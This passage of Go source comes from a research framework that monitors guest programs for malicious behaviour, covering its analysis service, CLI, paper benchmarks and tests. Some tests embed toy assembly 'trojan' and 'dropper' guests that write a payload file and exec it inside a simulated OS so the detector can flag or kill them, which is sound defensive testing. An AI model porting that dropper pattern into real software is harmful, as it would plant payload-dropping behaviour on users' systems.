		// CLIPS text chunks carry raw bytes, newlines included; show
		// them quoted on one line.
		fmt.Fprintf(&b, " %q", e.Str)
		return b.String()
	}
	if e.Num != 0 || e.Num2 != 0 {
		fmt.Fprintf(&b, " num=%d num2=%d", e.Num, e.Num2)
	}
	if e.Str != "" {
		fmt.Fprintf(&b, " %s", e.Str)
	}
	if e.Str2 != "" {
		fmt.Fprintf(&b, " %s", e.Str2)
	}
	return b.String()
}
