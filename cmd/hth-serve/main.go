// Command hth-serve runs the HTH analysis service: a long-lived
// HTTP/JSON front over a sharded pool of monitored-run workers, with
// bounded queues, admission control, load shedding, and a graceful
// drain on SIGINT/SIGTERM (in-flight jobs finish; queued jobs come
// back as structured aborts — no job is ever lost).
//
//	hth-serve [-addr :8077] [-shards 4] [-workers 1] [-queue 16]
//	          [-retries 2] [-drain 30s]
//	          [-chaos-seed N -chaos-rate P]   # fault-storm soak mode
//
//	curl -s localhost:8077/healthz                  # incl. latency_ms rollups
//	curl -s -X POST localhost:8077/jobs?wait=1 -d @job.json
//	curl -s localhost:8077/jobs/j000001/trace > trace.json   # open in Perfetto
//	curl -s localhost:8077/metrics | grep hth_jobs
//	curl -s localhost:8077/metrics | grep hth_job_exec_seconds   # latency histograms
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	hth "repro"
	"repro/internal/chaos"
)

func main() {
	var (
		addr      = flag.String("addr", "127.0.0.1:8077", "listen address")
		shards    = flag.Int("shards", 4, "worker shards (tenants hash across them)")
		workers   = flag.Int("workers", 1, "worker goroutines per shard")
		queue     = flag.Int("queue", 16, "queued jobs per shard before backpressure (429)")
		retries   = flag.Int("retries", 2, "crash retries per job before a typed error")
		drain     = flag.Duration("drain", 30*time.Second, "graceful drain budget on SIGINT/SIGTERM")
		chaosSeed = flag.Uint64("chaos-seed", 0, "service fault-injection seed (0 = chaos off)")
		chaosRate = flag.Float64("chaos-rate", 0.05, "service fault probability per decision point")
	)
	flag.Parse()

	cfg := hth.ServiceConfig{
		Shards:          *shards,
		WorkersPerShard: *workers,
		QueueDepth:      *queue,
		MaxRetries:      *retries,
	}
	if *chaosSeed != 0 {
		cfg.Chaos = &chaos.Plan{Seed: *chaosSeed, Rate: *chaosRate}
		log.Printf("chaos armed: seed=%#x rate=%g (service-level faults only)", *chaosSeed, *chaosRate)
	}
	svc := hth.NewService(cfg)

	srv := &http.Server{Addr: *addr, Handler: svc.Handler()}
	errc := make(chan error, 1)
	go func() { errc <- srv.ListenAndServe() }()
	log.Printf("hth-serve listening on %s (%d shards × %d workers, queue %d)",
		*addr, *shards, *workers, *queue)

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGINT, syscall.SIGTERM)
	select {
	case err := <-errc:
		log.Fatalf("serve: %v", err)
	case s := <-sig:
		log.Printf("%s: draining (budget %s)...", s, *drain)
	}

	ctx, cancel := context.WithTimeout(context.Background(), *drain)
	defer cancel()
	// Stop accepting HTTP first, then drain the pool: in-flight jobs
	// finish, queued jobs terminate as structured aborts.
	shutdownErr := srv.Shutdown(ctx)
	if err := svc.Drain(ctx); err != nil {
		fmt.Fprintf(os.Stderr, "drain incomplete: %v\n", err)
		os.Exit(1)
	}
	if shutdownErr != nil && !errors.Is(shutdownErr, http.ErrServerClosed) {
		fmt.Fprintf(os.Stderr, "http shutdown: %v\n", shutdownErr)
	}
	log.Printf("drained clean; bye")
}
