// Command hth runs a guest program under the HTH monitor and prints
// Secpert's warnings — the front door of the framework.
//
// Run a corpus scenario (the paper's benchmarks):
//
//	hth -scenario pma
//	hth -list
//
// Or assemble and monitor your own guest program:
//
//	hth -prog suspect.s [-stdin text] [-kill high] [-verbose] [arg ...]
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	hth "repro"
	"repro/internal/corpus"
	"repro/internal/image"
	"repro/internal/secpert"
)

func main() {
	var (
		scenario = flag.String("scenario", "", "run a named corpus scenario")
		list     = flag.Bool("list", false, "list corpus scenarios")
		prog     = flag.String("prog", "", "run a guest program from this file (assembly source or ELF32 binary)")
		stdin    = flag.String("stdin", "", "guest stdin contents")
		kill     = flag.String("kill", "", "kill the guest at this severity or above (low|medium|high)")
		verbose  = flag.Bool("verbose", false, "print the expert-system fire trace as it happens")
		trace    = flag.Bool("trace", false, "with -verbose: echo every asserted event fact (Appendix A.1 style)")
		noflow   = flag.Bool("no-dataflow", false, "disable instruction-level taint tracking")
		events   = flag.Bool("events", false, "print the EventAnalyzer transcript after the run")
		jsonOut  = flag.Bool("json", false, "print warnings as JSON")
		policy   = flag.String("policy", "", "JSON policy file overriding the default Secpert settings")
	)
	flag.Parse()

	switch {
	case *list:
		listScenarios()
	case *scenario != "":
		runScenario(*scenario, opts{verbose: *verbose, trace: *trace, events: *events, json: *jsonOut, policy: *policy})
	case *prog != "":
		runProgram(*prog, *stdin, *kill,
			opts{verbose: *verbose, trace: *trace, events: *events, json: *jsonOut, noflow: *noflow, policy: *policy},
			flag.Args())
	default:
		flag.Usage()
		os.Exit(2)
	}
}

func listScenarios() {
	for _, sc := range corpus.All() {
		fmt.Printf("%-4s %-28s %s\n", sc.Table, sc.Name, sc.Desc)
	}
}

type opts struct {
	verbose, trace, events, json, noflow bool
	policy                               string
}

// applyPolicy overlays a policy file onto cfg.
func applyPolicy(cfg *hth.Config, file string) {
	if file == "" {
		return
	}
	data, err := os.ReadFile(file)
	if err != nil {
		fatalf("%v", err)
	}
	pol, err := secpert.ConfigFromJSON(data)
	if err != nil {
		fatalf("%v", err)
	}
	cfg.Policy = pol
}

func runScenario(name string, o opts) {
	sc, ok := corpus.ByName(name)
	if !ok {
		fatalf("unknown scenario %q (use -list)", name)
	}
	sys := hth.NewSystem()
	if sc.Setup != nil {
		sc.Setup(sys)
	}
	cfg := hth.DefaultConfig()
	if sc.Tweak != nil {
		sc.Tweak(&cfg)
	}
	applyPolicy(&cfg, o.policy)
	if o.verbose {
		cfg.Verbose = os.Stdout
		cfg.TraceAsserts = o.trace
	}
	res, err := sys.Run(cfg, sc.Spec)
	if err != nil {
		fatalf("%v", err)
	}
	printResult(res, o)
	fmt.Printf("paper expectation: %s\n", sc.Verdict(res))
}

func runProgram(path, stdin, kill string, o opts, args []string) {
	src, err := os.ReadFile(path)
	if err != nil {
		fatalf("%v", err)
	}
	sys := hth.NewSystem()
	guestPath := "/bin/" + strings.TrimSuffix(filepath.Base(path), ".s")
	// Binary payloads (ELF32 executables) go through the
	// format-agnostic frontend; text stays on the forced asm path so
	// its compile diagnostics keep their familiar shape.
	if image.IsELF(src) {
		if err := sys.InstallBinary(guestPath, src); err != nil {
			fatalf("load: %v", err)
		}
	} else if err := sys.InstallSource(guestPath, string(src)); err != nil {
		fatalf("assemble: %v", err)
	}
	cfg := hth.DefaultConfig()
	cfg.Monitor.Dataflow = !o.noflow
	applyPolicy(&cfg, o.policy)
	if o.verbose {
		cfg.Verbose = os.Stdout
		cfg.TraceAsserts = o.trace
	}
	if kill != "" {
		sev, err := parseSeverity(kill)
		if err != nil {
			fatalf("%v", err)
		}
		cfg.Advisor = secpert.KillAtOrAbove(sev)
	}
	res, err := sys.Run(cfg, hth.RunSpec{
		Path:  guestPath,
		Argv:  append([]string{guestPath}, args...),
		Stdin: []byte(stdin),
	})
	if err != nil {
		fatalf("%v", err)
	}
	printResult(res, o)
}

func printResult(res *hth.Result, o opts) {
	if len(res.Console) > 0 {
		fmt.Printf("--- guest console ---\n%s\n---------------------\n", res.Console)
	}
	if o.events {
		fmt.Println("--- event transcript ---")
		for _, e := range res.Events {
			fmt.Println(e)
		}
		fmt.Println("------------------------")
	}
	if o.json {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(res.Warnings); err != nil {
			fatalf("json: %v", err)
		}
	} else {
		fmt.Print(res.Report())
	}
	p := res.Process
	switch {
	case p.Killed:
		fmt.Println("guest: KILLED by the monitor")
	case p.Fault != nil:
		fmt.Printf("guest: FAULTED: %v\n", p.Fault)
	default:
		fmt.Printf("guest: exited %d after %d instructions\n", p.ExitCode, res.TotalSteps)
	}
}

func parseSeverity(s string) (secpert.Severity, error) {
	switch strings.ToLower(s) {
	case "low":
		return secpert.Low, nil
	case "medium":
		return secpert.Medium, nil
	case "high":
		return secpert.High, nil
	}
	return 0, fmt.Errorf("bad severity %q", s)
}

func fatalf(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "hth: "+format+"\n", args...)
	os.Exit(1)
}
