// Benchmarks regenerating the paper's evaluation: one benchmark per
// table (4–8), the macro benchmarks of §8.4, the §9 performance
// comparison (bare vs no-dataflow vs full monitoring), the Figure 3
// basic-block-attribution path, and ablations of the design choices
// called out in DESIGN.md. Run with:
//
//	go test -bench=. -benchmem
//
// Each table bench executes every scenario of that table and fails if
// any diverges from the paper-reported expectation, so the benchmark
// numbers always describe *reproducing* runs.
package hth_test

import (
	"fmt"
	"testing"

	hth "repro"
	"repro/internal/corpus"
	"repro/internal/secpert"
)

// benchTable runs all scenarios of one paper table per iteration.
func benchTable(b *testing.B, table string) {
	scs := corpus.ByTable(table)
	if len(scs) == 0 {
		b.Fatalf("no scenarios for %s", table)
	}
	b.ReportAllocs()
	var steps uint64
	for i := 0; i < b.N; i++ {
		for _, sc := range scs {
			res, err := sc.Run()
			if err != nil {
				b.Fatalf("%s: %v", sc.Name, err)
			}
			if problems := sc.Check(res); len(problems) > 0 {
				b.Fatalf("%s diverged: %v", sc.Name, problems)
			}
			steps += res.TotalSteps
		}
	}
	b.ReportMetric(float64(steps)/float64(b.N), "guest-instrs/op")
	b.ReportMetric(float64(len(scs)), "scenarios")
}

func BenchmarkTable1MalwareModels(b *testing.B)   { benchTable(b, "T1") }
func BenchmarkTable4ExecutionFlow(b *testing.B)   { benchTable(b, "T4") }
func BenchmarkTable5ResourceAbuse(b *testing.B)   { benchTable(b, "T5") }
func BenchmarkTable6InformationFlow(b *testing.B) { benchTable(b, "T6") }
func BenchmarkTable7TrustedPrograms(b *testing.B) { benchTable(b, "T7") }
func BenchmarkTable8RealExploits(b *testing.B)    { benchTable(b, "T8") }
func BenchmarkMacroPwsafe(b *testing.B)           { benchTable(b, "M1") }
func BenchmarkMacroMW(b *testing.B)               { benchTable(b, "M2") }
func BenchmarkMacroTicTacToe(b *testing.B)        { benchTable(b, "M3") }

// benchPerf measures one §9 monitoring mode on one workload,
// reporting guest instructions per second so the three modes'
// slowdown factors can be compared (the paper's Table-3-style shape:
// dataflow dominates the overhead).
func benchPerf(b *testing.B, workload string, mode corpus.PerfMode, tweak func(*hth.Config)) {
	b.ReportAllocs()
	var steps uint64
	for i := 0; i < b.N; i++ {
		res, err := corpus.RunPerfWith(workload, mode, tweak)
		if err != nil {
			b.Fatal(err)
		}
		steps += res.TotalSteps
	}
	instrPerOp := float64(steps) / float64(b.N)
	b.ReportMetric(instrPerOp, "guest-instrs/op")
	b.ReportMetric(instrPerOp*float64(b.N)/b.Elapsed().Seconds(), "guest-instrs/s")
}

// interpTier pins every block to the interpreter tier, the
// pre-tiering configuration the summary tier is A/B-measured against.
func interpTier(cfg *hth.Config) { cfg.Monitor.PromoteThreshold = 0 }

func BenchmarkPerfALUBare(b *testing.B)       { benchPerf(b, "alu", corpus.PerfBare, nil) }
func BenchmarkPerfALUNoDataflow(b *testing.B) { benchPerf(b, "alu", corpus.PerfNoDataflow, nil) }
func BenchmarkPerfALUFullDataflow(b *testing.B) {
	benchPerf(b, "alu", corpus.PerfFull, nil)
}
func BenchmarkPerfALUInterpDataflow(b *testing.B) {
	benchPerf(b, "alu", corpus.PerfFull, interpTier)
}
func BenchmarkPerfMemBare(b *testing.B)       { benchPerf(b, "mem", corpus.PerfBare, nil) }
func BenchmarkPerfMemNoDataflow(b *testing.B) { benchPerf(b, "mem", corpus.PerfNoDataflow, nil) }
func BenchmarkPerfMemFullDataflow(b *testing.B) {
	benchPerf(b, "mem", corpus.PerfFull, nil)
}
func BenchmarkPerfMemInterpDataflow(b *testing.B) {
	benchPerf(b, "mem", corpus.PerfFull, interpTier)
}

// summaryTier caps the engine at the summary tier — the pre-trace
// configuration the trace tier is A/B-measured against.
func summaryTier(cfg *hth.Config) {
	cfg.Monitor.TraceThreshold = 0
	cfg.Monitor.CleanThreshold = 0
}

func BenchmarkPerfMemSummaryDataflow(b *testing.B) {
	benchPerf(b, "mem", corpus.PerfFull, summaryTier)
}

// noCleanTier caps the engine at the trace tier — the configuration
// BenchmarkPerfMemSparseTaint is A/B-measured against. The sparse
// workload's moving pointer defeats the value-keyed clean-taint gate,
// so this is the full-transfer trace path.
func noCleanTier(cfg *hth.Config) { cfg.Monitor.CleanThreshold = 0 }

func BenchmarkPerfMemSparseTaint(b *testing.B) {
	benchPerf(b, "sparse", corpus.PerfFull, nil)
}
func BenchmarkPerfMemSparseTaintNoClean(b *testing.B) {
	benchPerf(b, "sparse", corpus.PerfFull, noCleanTier)
}

// BenchmarkFigure3BBAttribution exercises the application↔shared
// object basic-block path of paper Figure 3: a guest hammering a libc
// routine, with frequency attribution active.
func BenchmarkFigure3BBAttribution(b *testing.B) {
	const src = `
.import "libc.so"
.text
_start:
    mov esi, 500
loop:
    mov ebx, msg
    call strlen
    dec esi
    jnz loop
    hlt
.data
msg: .asciz "attribution"
`
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		sys := hth.NewSystem()
		sys.MustInstallSource("/bin/hot", src)
		res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/hot"})
		if err != nil {
			b.Fatal(err)
		}
		if res.Process.Fault != nil {
			b.Fatal(res.Process.Fault)
		}
	}
}

// --- Ablations (DESIGN.md §7) ---

// ablationConfig runs the Table 8 exploits under a modified
// configuration and reports how many paper-expected detections
// survive, quantifying what each design choice buys.
func ablationDetections(b *testing.B, tweak func(*hth.Config)) {
	scs := corpus.ByTable("T8")
	b.ReportAllocs()
	detected := 0
	total := 0
	for i := 0; i < b.N; i++ {
		detected, total = 0, 0
		for _, sc := range scs {
			sys := hth.NewSystem()
			sc.Setup(sys)
			cfg := hth.DefaultConfig()
			if sc.Tweak != nil {
				sc.Tweak(&cfg)
			}
			tweak(&cfg)
			res, err := sys.Run(cfg, sc.Spec)
			if err != nil {
				b.Fatal(err)
			}
			total++
			if len(res.Warnings) > 0 {
				detected++
			}
		}
	}
	b.ReportMetric(float64(detected), "detected")
	b.ReportMetric(float64(total), "exploits")
}

func BenchmarkAblationFullSystem(b *testing.B) {
	ablationDetections(b, func(cfg *hth.Config) {})
}

func BenchmarkAblationNoDataflow(b *testing.B) {
	ablationDetections(b, func(cfg *hth.Config) { cfg.Monitor.Dataflow = false })
}

func BenchmarkAblationNoFrequency(b *testing.B) {
	ablationDetections(b, func(cfg *hth.Config) {
		cfg.Monitor.BBFrequency = false
		cfg.Policy.DisableFrequency = true
	})
}

func BenchmarkAblationNoTrustedFilter(b *testing.B) {
	ablationDetections(b, func(cfg *hth.Config) { cfg.Policy.TrustedBinaries = nil })
}

func BenchmarkAblationNoInfoFlow(b *testing.B) {
	ablationDetections(b, func(cfg *hth.Config) { cfg.Policy.DisableInfoFlow = true })
}

// BenchmarkAdvisorKill measures the kill path: terminate every guest
// at its first High warning.
func BenchmarkAdvisorKill(b *testing.B) {
	sc, ok := corpus.ByName("vixie-crontab")
	if !ok {
		b.Fatal("scenario missing")
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		sys := hth.NewSystem()
		sc.Setup(sys)
		cfg := hth.DefaultConfig()
		cfg.Advisor = secpert.KillAtOrAbove(secpert.High)
		res, err := sys.Run(cfg, sc.Spec)
		if err != nil {
			b.Fatal(err)
		}
		if !res.Process.Killed {
			b.Fatal("guest not killed")
		}
	}
}

// BenchmarkWarningThroughput stresses Secpert with a guest that
// triggers many information-flow warnings.
func BenchmarkWarningThroughput(b *testing.B) {
	const src = `
.text
_start:
    mov esi, 50
loop:
    mov ebx, f
    mov eax, 8          ; creat
    int 0x80
    mov ebx, eax
    mov ecx, payload
    mov edx, 8
    mov eax, 4          ; write (High each time)
    int 0x80
    mov eax, 6
    int 0x80
    dec esi
    jnz loop
    hlt
.data
f:       .asciz "/tmp/drop"
payload: .asciz "PAYLOAD1"
`
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		sys := hth.NewSystem()
		sys.MustInstallSource("/bin/noisy", src)
		res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/noisy"})
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Warnings) != 50 {
			b.Fatalf("warnings = %d", len(res.Warnings))
		}
	}
}

func Example() {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", ".text\n_start: hlt\n")
	sys.MustInstallSource("/bin/trojan", `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		panic(err)
	}
	fmt.Print(res.Report())
	// Output:
	// Warning [LOW] Found SYS_execve call ("/bin/ls")
	//     ("/bin/ls") originated from ("/bin/trojan")
}
