package hth_test

import (
	"bytes"
	"strings"
	"testing"

	hth "repro"
	"repro/internal/secpert"
	"repro/internal/vos"
)

const trojanSrc = `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`

const lsSrc = `
.text
_start:
    mov ebx, 0
    mov eax, 1
    int 0x80
`

func TestRunMonitored(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", lsSrc)
	sys.MustInstallSource("/bin/trojan", trojanSrc)
	res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) != 1 {
		t.Fatalf("warnings = %v", res.Warnings)
	}
	if sev, any := res.MaxSeverity(); !any || sev != hth.Low {
		t.Errorf("MaxSeverity = %v, %v", sev, any)
	}
	if !res.HasWarning("check_execve") || res.HasWarning("check_write") {
		t.Error("HasWarning wrong")
	}
	if res.CountAt(hth.Low) != 1 || res.CountAt(hth.High) != 0 {
		t.Error("CountAt wrong")
	}
	if !strings.Contains(res.Report(), "Warning [LOW]") {
		t.Errorf("Report = %q", res.Report())
	}
	if res.Stats.Instructions == 0 {
		t.Error("no instrumentation stats")
	}
	if len(res.Trace) != 1 {
		t.Errorf("trace = %v", res.Trace)
	}
}

func TestRunUnmonitored(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", lsSrc)
	sys.MustInstallSource("/bin/trojan", trojanSrc)
	cfg := hth.DefaultConfig()
	cfg.Unmonitored = true
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) != 0 || res.Secpert != nil {
		t.Error("unmonitored run produced monitoring output")
	}
	if _, any := res.MaxSeverity(); any {
		t.Error("unmonitored MaxSeverity reports warnings")
	}
	if res.Report() != "No warnings.\n" {
		t.Errorf("Report = %q", res.Report())
	}
}

func TestRunMissingProgram(t *testing.T) {
	sys := hth.NewSystem()
	if _, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/nope"}); err == nil {
		t.Error("missing program accepted")
	}
}

func TestInstallSourceError(t *testing.T) {
	sys := hth.NewSystem()
	if err := sys.InstallSource("/bin/x", "bogus mnemonic"); err == nil {
		t.Error("bad assembly accepted")
	}
}

func TestVerboseOutput(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", lsSrc)
	sys.MustInstallSource("/bin/trojan", trojanSrc)
	var out bytes.Buffer
	cfg := hth.DefaultConfig()
	cfg.Verbose = &out
	if _, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/trojan"}); err != nil {
		t.Fatal(err)
	}
	s := out.String()
	if !strings.Contains(s, "FIRE 1 check_execve") || !strings.Contains(s, "Warning [LOW]") {
		t.Errorf("verbose output = %q", s)
	}
}

func TestAdvisorKillStopsGuest(t *testing.T) {
	// The guest drops a payload (High) and would then run it; a
	// kill-on-High advisor terminates it before the execve happens.
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/dropper", `
.text
_start:
    mov ebx, f
    mov eax, 8          ; creat
    int 0x80
    mov ebx, eax
    mov ecx, payload
    mov edx, 8
    mov eax, 4          ; write -> High -> killed here
    int 0x80
    mov ebx, f
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; never reached
    int 0x80
    hlt
.data
f:       .asciz "/tmp/evil"
payload: .asciz "PAYLOAD"
`)
	cfg := hth.DefaultConfig()
	cfg.Advisor = secpert.KillAtOrAbove(hth.High)
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/dropper"})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Process.Killed {
		t.Fatal("guest not killed")
	}
	if res.HasWarning("check_execve") {
		t.Error("execve ran after the kill")
	}
	// The file was created (before the warning) but the payload
	// write itself was suppressed.
	f, ok := sys.OS.FS.Lookup("/tmp/evil")
	if !ok {
		t.Fatal("file missing")
	}
	if len(f.Data) != 0 {
		t.Errorf("suppressed write still landed: %q", f.Data)
	}
}

func TestSystemHelpers(t *testing.T) {
	sys := hth.NewSystem()
	sys.CreateFile("/etc/x", []byte("data"))
	if _, ok := sys.OS.FS.Lookup("/etc/x"); !ok {
		t.Error("CreateFile failed")
	}
	sys.AddHost("h.example", "1.2.3.4")
	if addr, ok := sys.OS.Net.ResolveHost("h.example"); !ok || addr != "1.2.3.4" {
		t.Error("AddHost failed")
	}
	var fired bool
	sys.AddRemote("r:1", func() vos.RemoteScript {
		fired = true
		return quietScript{}
	})
	if _, err := sys.OS.Net.Connect("r:1"); err != nil {
		t.Fatal(err)
	}
	if !fired {
		t.Error("AddRemote factory not invoked")
	}
}

type quietScript struct{}

func (quietScript) OnConnect(*vos.RemoteConn)      {}
func (quietScript) OnData(*vos.RemoteConn, []byte) {}

func TestMustInstallSourcePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("no panic")
		}
	}()
	hth.NewSystem().MustInstallSource("/bin/x", "garbage")
}

func TestRunBudgetReported(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/spin", ".text\n_start:\nl: jmp l\n")
	cfg := hth.DefaultConfig()
	cfg.MaxSteps = 5000
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/spin"})
	if err != nil {
		t.Fatal(err)
	}
	if res.RunErr != vos.ErrBudget {
		t.Errorf("RunErr = %v", res.RunErr)
	}
}
