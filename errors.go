package hth

import (
	"errors"
	"fmt"
	"runtime/debug"
)

// ErrSystemBusy is returned by System.Run and Session.Wait when the
// System is already executing a run on another goroutine. A System is
// one guest world with one scheduler: concurrent runs would interleave
// mutable OS state, so the API rejects them instead of racing. Use one
// System per concurrent job (what hth.Service and the corpus sweeps
// do) — independent Systems share no mutable state and run in
// parallel freely.
var ErrSystemBusy = errors.New("hth: System is already running; a System supports one Run/Wait at a time — use one System per concurrent job")

// RunError is the structured form of a failure inside a monitored run.
// Internal panics anywhere under System.Run / Session.Wait — the
// interpreter, the loader, the monitor, the expert system — are
// recovered at the run boundary and surfaced as a *RunError instead of
// crashing the embedding process, so one bad guest (or one injected
// fault tickling an unhandled path) cannot take down a corpus sweep.
type RunError struct {
	// Stage names the API boundary that contained the failure:
	// "run" (System.Run) or "wait" (Session.Wait).
	Stage string
	// Panic is the recovered panic value; nil when the error wraps a
	// plain error rather than a contained panic.
	Panic any
	// Stack is the goroutine stack captured at recovery; nil for
	// plain errors.
	Stack []byte
	// Err is the underlying error, when there is one.
	Err error
}

// Error renders the failure; panics include the panic value but not
// the stack (inspect Stack for that).
func (e *RunError) Error() string {
	if e.Panic != nil {
		return fmt.Sprintf("hth: panic during %s: %v", e.Stage, e.Panic)
	}
	return fmt.Sprintf("hth: %s failed: %v", e.Stage, e.Err)
}

// Unwrap exposes the underlying error for errors.Is/As.
func (e *RunError) Unwrap() error { return e.Err }

// GuestFault is a failure attributable to the guest program or its
// world — a missing or malformed image, an unresolvable symbol, an
// overlapping code mapping — as opposed to a defect in the framework
// itself. It distinguishes "this specimen is broken" from "HTH is
// broken" in sweep reports.
type GuestFault struct {
	// PID is the guest process involved, 0 when the fault precedes
	// process creation.
	PID int
	// Path is the program or resource involved.
	Path string
	// Err is the underlying cause.
	Err error
}

// Error renders the fault.
func (e *GuestFault) Error() string {
	if e.PID != 0 {
		return fmt.Sprintf("hth: guest fault (pid %d, %s): %v", e.PID, e.Path, e.Err)
	}
	return fmt.Sprintf("hth: guest fault (%s): %v", e.Path, e.Err)
}

// Unwrap exposes the underlying error for errors.Is/As.
func (e *GuestFault) Unwrap() error { return e.Err }

// contain converts a panic in flight into a *RunError on the named
// return values. Use as: defer contain("run", &res, &err).
func contain(stage string, res **Result, err *error) {
	if r := recover(); r != nil {
		*res = nil
		*err = &RunError{Stage: stage, Panic: r, Stack: debug.Stack()}
	}
}
