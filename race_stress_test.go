package hth_test

import (
	"sync"
	"testing"

	hth "repro"
)

// TestConcurrentIndependentSystems is the -race stress for the
// concurrency contract the service relies on: independent Systems
// share no mutable state, so concurrent Run calls across them are
// safe and their detections deterministic. Run with -race, this is
// the reentrancy audit of the vos/harrier/secpert stack.
func TestConcurrentIndependentSystems(t *testing.T) {
	const goroutines = 8
	const iterations = 3

	ref := runTrojanOnce(t)
	var wg sync.WaitGroup
	results := make([][]string, goroutines)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < iterations; i++ {
				results[g] = runTrojanOnce(t)
			}
		}(g)
	}
	wg.Wait()
	for g, warnings := range results {
		if len(warnings) != len(ref) {
			t.Errorf("goroutine %d: %d warnings, want %d", g, len(warnings), len(ref))
			continue
		}
		for i := range warnings {
			if warnings[i] != ref[i] {
				t.Errorf("goroutine %d warning %d: %q != %q", g, i, warnings[i], ref[i])
			}
		}
	}
}

func runTrojanOnce(t *testing.T) []string {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", lsSrc)
	sys.MustInstallSource("/bin/trojan", trojanSrc)
	res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Errorf("run: %v", err)
		return nil
	}
	out := make([]string, len(res.Warnings))
	for i, w := range res.Warnings {
		out[i] = w.String()
	}
	return out
}

// TestSharedSystemConcurrentRunRejected documents why the service
// gives every job a private System: a System is one guest world with
// one scheduler, and the API rejects a second concurrent Run with
// ErrSystemBusy instead of interleaving mutable OS state.
func TestSharedSystemConcurrentRunRejected(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", lsSrc)
	sys.MustInstallSource("/bin/trojan", trojanSrc)

	const attempts = 8
	errs := make(chan error, attempts)
	var wg sync.WaitGroup
	for i := 0; i < attempts; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/trojan"})
			errs <- err
		}()
	}
	wg.Wait()
	close(errs)
	var ok, busy int
	for err := range errs {
		switch err {
		case nil:
			ok++
		case hth.ErrSystemBusy:
			busy++
		default:
			t.Errorf("concurrent Run on one System: %v", err)
		}
	}
	if ok == 0 {
		t.Error("every concurrent Run was rejected; at least one should win the slot")
	}
	if ok+busy != attempts {
		t.Errorf("ok=%d busy=%d of %d", ok, busy, attempts)
	}
}
