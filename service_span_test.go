package hth_test

import (
	"encoding/json"
	"net/http/httptest"
	"testing"
	"time"

	hth "repro"
	"repro/internal/obs"
)

// spansByName indexes a recorder's spans by name (a name may repeat —
// one queue/exec pair per attempt).
func spansByName(rec *obs.SpanRecorder) map[string][]obs.Span {
	out := map[string][]obs.Span{}
	for _, sp := range rec.Spans() {
		out[sp.Name] = append(out[sp.Name], sp)
	}
	return out
}

// TestServiceJobSpanTree pins the tentpole: a normal job's trace is a
// fully closed tree — job → admit/queue/exec/verdict, with runCore's
// phase spans (load/instrument/execute/report) grafted under the exec
// span and the per-tier children under execute summing to (at most)
// the execute span — and it exports as Chrome trace JSON over HTTP.
func TestServiceJobSpanTree(t *testing.T) {
	s := hth.NewService(hth.ServiceConfig{Shards: 1, WorkersPerShard: 1})
	h, err := s.Submit(trojanSpec("acme"))
	if err != nil {
		t.Fatal(err)
	}
	res := waitJob(t, h)
	if res.Status != "done" {
		t.Fatalf("status %q: %+v", res.Status, res.Error)
	}
	rec := h.Spans()
	if rec == nil {
		t.Fatal("admitted job has no span recorder")
	}
	if rec.TraceID() != h.ID() {
		t.Errorf("trace id %q, want job id %q", rec.TraceID(), h.ID())
	}
	if n := rec.OpenCount(); n != 0 {
		t.Errorf("%d spans still open after Done()", n)
	}
	byName := spansByName(rec)
	root := rec.Root()
	if root == nil || root.Name != "job" || root.Parent != 0 || root.Status != "done" {
		t.Fatalf("root span = %+v", root)
	}
	for _, name := range []string{"admit", "queue", "exec", "verdict", "load", "instrument", "execute", "report"} {
		sps := byName[name]
		if len(sps) != 1 {
			t.Fatalf("span %q: %d instances, want 1 (have %v)", name, len(sps), names(rec))
		}
		if sps[0].End == 0 {
			t.Errorf("span %q never closed", name)
		}
	}
	exec := byName["exec"][0]
	if exec.Parent != root.ID {
		t.Errorf("exec span parent %d, want root %d", exec.Parent, root.ID)
	}
	if exec.Status != "clean" {
		t.Errorf("exec span status %q, want the scheduler outcome", exec.Status)
	}
	// runCore phases hang off this attempt's exec span.
	for _, name := range []string{"load", "instrument", "execute", "report"} {
